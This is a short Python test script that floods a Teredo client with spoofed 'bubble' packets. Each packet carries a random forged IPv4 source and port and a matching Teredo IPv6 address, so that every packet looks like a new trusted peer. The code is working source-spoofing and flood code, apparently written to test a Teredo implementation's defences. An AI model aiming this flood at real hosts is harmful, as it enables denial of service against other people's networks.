#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""A bubble flood from spoofed Teredo clients: each from another global
IPv4 address and port, with the Teredo source address that embeds them,
so that every one is a new peer a client would trust (RFC 4380 5.2.3).

    teredo_flood.py COUNT DST DPORT TEREDO-DST
"""
import ipaddress
import random
import socket
import struct
import sys

from udp_spoof import datagram, raw_socket

SERVER = bytes.fromhex("cb00710a")	# 203.0.113.10, the tests' server


def main():
    count, dst, dport = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    tdst = ipaddress.IPv6Address(sys.argv[4]).packed
    rnd = random.Random(4380)
    sock = raw_socket()
    for _ in range(count):
        # 100.64.0.0/10: global to Teredo (miredo's list), routed nowhere
        v4 = bytes([100, 64 + rnd.randrange(64), rnd.randrange(256),
                    rnd.randrange(1, 255)])
        port = rnd.randrange(1024, 65536)
        src6 = (b"\x20\x01\x00\x00" + SERVER + b"\x00\x00" +
                struct.pack("!H", port ^ 0xffff) +
                bytes(x ^ 0xff for x in v4))
        bubble = struct.pack("!IHBB", 0x60000000, 0, 59, 0) + src6 + tdst
        sock.sendto(datagram(socket.inet_ntoa(v4), port, dst, dport, bubble),
                    (dst, 0))


if __name__ == "__main__":
    main()
